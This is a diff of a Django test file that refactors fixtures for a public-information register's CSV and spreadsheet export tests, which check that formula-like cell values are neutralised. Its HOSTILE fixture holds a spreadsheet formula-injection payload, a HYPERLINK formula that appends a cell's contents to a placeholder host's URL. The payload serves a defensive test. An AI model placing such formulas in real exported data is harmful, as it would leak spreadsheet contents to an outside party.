@@ -11,14 +11,14 @@ import io
 from datetime import date
 
 import pytest
-from django.contrib.auth import get_user_model
 from openpyxl import load_workbook
 
 from tayang.dip import tabular
 from tayang.dip.models import Entry
-from tayang.orgs.models import Membership, Organization
 from tayang.records.cells import formula_like, from_spreadsheet_safe, spreadsheet_safe
 from tayang.records.register import RegisterRow, to_csv
+
+from .dip_world import dip_organization, signed_in_ppid
 
 HOSTILE = {
     "summary": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
@@ -51,7 +51,7 @@ def test_a_lone_dash_in_the_register_stays_a_dash():
 
 @pytest.fixture
 def org(db):
-    org = Organization.objects.create(slug="disperindag", name="Disperindag")
+    org = dip_organization()
     Entry.objects.create(organization=org, number="DIP-01", softcopy=True, hardcopy=False,
                          classification="berkala", updated_on=date(2026, 1, 5), **HOSTILE)
     Entry.objects.create(organization=org, number="-", summary="-5", holder="-", softcopy=True,
@@ -62,10 +62,7 @@ def org(db):
 
 @pytest.fixture
 def ppid(org, client):
-    user = get_user_model().objects.create_user("ppid", password="sandi-panjang-123")
-    Membership.objects.create(organization=org, user=user, is_ppid=True)
-    client.force_login(user)
-    return user
+    return signed_in_ppid(org, client)
 
 
 def test_the_dip_csv_export_quotes_formulas_and_keeps_dashes(org, ppid, client):
